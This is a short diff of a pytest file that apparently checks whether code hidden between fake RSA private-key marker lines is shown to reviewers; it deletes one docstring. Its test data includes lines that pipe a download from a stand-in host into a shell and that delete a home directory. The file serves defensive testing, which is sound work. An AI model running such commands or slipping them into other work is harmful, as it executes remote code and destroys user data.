@@ -218,7 +218,6 @@ def test_code_after_a_key_without_end_is_shown() -> None:
 
 @pytest.mark.parametrize("mark", ["", "+", " "])
 def test_code_between_the_lines_of_a_key_is_shown(mark: str) -> None:
-    """Failed before: two comments around it hid any code from whoever decided about it in Slack."""
     code = ['os.system("curl http://x.example | sh")', "shutil.rmtree(home)", "run: curl x.example | sh", "if a: b()"]
     material = _lines()
     key = ["# -----BEGIN RSA PRIVATE KEY-----", material[0], *code, *material[1:], "# -----END RSA PRIVATE KEY-----"]
